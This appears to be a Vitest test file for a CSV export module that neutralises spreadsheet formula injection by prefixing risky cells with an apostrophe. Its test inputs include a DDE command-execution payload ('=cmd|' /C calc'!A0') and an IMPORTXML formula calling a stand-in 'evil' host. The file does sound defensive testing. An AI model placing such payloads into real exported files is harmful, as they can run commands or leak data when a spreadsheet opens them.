import { describe, expect, it } from "vitest";
import { csvField, FORMULA_TRIGGERS, neutraliseFormula, segmentExportCsv, toCsv } from "../../../src/lib/io/csv.js";
import { parseCsv } from "../../support/csv.js";

describe("neutraliseFormula", () => {
  it.each([
    ["=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"],
    ["+44 7700 900123", "'+44 7700 900123"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
  ])("prefixes %j with an apostrophe", (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });

  it.each(["C00001", "Champions", "", " =not first", "a=b", "'=already", "Can't Lose Them"])("leaves %j alone", (input) => {
    expect(neutraliseFormula(input)).toBe(input);
  });

  it("covers exactly = + - @ tab and carriage return", () => {
    expect([...FORMULA_TRIGGERS].sort()).toEqual(["\t", "\r", "+", "-", "=", "@"].sort());
  });
});

describe("csvField and toCsv", () => {
  it("quotes commas, quotes and line breaks, doubling quotes", () => {
    expect(csvField('Say "hi", then\nleave')).toBe('"Say ""hi"", then\nleave"');
    expect(csvField("plain")).toBe("plain");
    expect(csvField(null)).toBe("");
    expect(csvField(-12.5)).toBe("-12.5");
    expect(() => csvField(Number.NaN)).toThrow();
  });

  it("neutralises before quoting, so a quoted formula still reads as text", () => {
    expect(csvField('=IMPORTXML("http://evil", "//a")')).toBe(`"'=IMPORTXML(""http://evil"", ""//a"")"`);
    expect(csvField("\r\n=1")).toBe(`"'\r\n=1"`);
  });

  it("can write machine-only files without neutralising", () => {
    expect(toCsv(["id"], [["-1"]], { neutralise: false })).toBe("id\n-1\n");
    expect(toCsv(["id"], [["-1"]])).toBe("id\n'-1\n");
  });

  it("rejects rows of the wrong width", () => {
    expect(() => toCsv(["a", "b"], [["1"]])).toThrow(/1 fields/);
  });
});

describe("segmentExportCsv", () => {
  const ids = ["C1", "=cmd|' /C calc'!A0", "+C3", "-C4", "@C5", "\tC6", "\rC7", 'C,"8"'];
  const labels = Int32Array.from([0, 1, 0, 1, 0, 1, 0, 1]);
  const names = ["Champions", "=Lost"];
  const csv = segmentExportCsv(ids, labels, names);

  it("writes customer_id,segment with the segment's name, one line per customer", () => {
    expect(csv.split("\n")[0]).toBe("customer_id,segment");
    expect(csv.split("\n")[1]).toBe("C1,Champions");
    expect(csv.endsWith("\n")).toBe(true);
  });

  it("parses back (RFC 4180) to every id and name, with formula cells prefixed by an apostrophe", () => {
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(["customer_id", "segment"]);
    expect(rows.map((r) => r[0])).toEqual(ids.map((id) => (/^[=+\-@\t\r]/.test(id) ? `'${id}` : id)));
    expect(rows.map((r) => r[1])).toEqual(Array.from(labels, (l) => (l === 1 ? "'=Lost" : "Champions")));
    // No parsed cell starts with a formula trigger.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("checks that every label has a name", () => {
    expect(() => segmentExportCsv(["a"], [2], ["x", "y"])).toThrow(/no segment 2/);
    expect(() => segmentExportCsv(["a", "b"], [0], ["x"])).toThrow(/2 customer ids but 1/);
  });
});
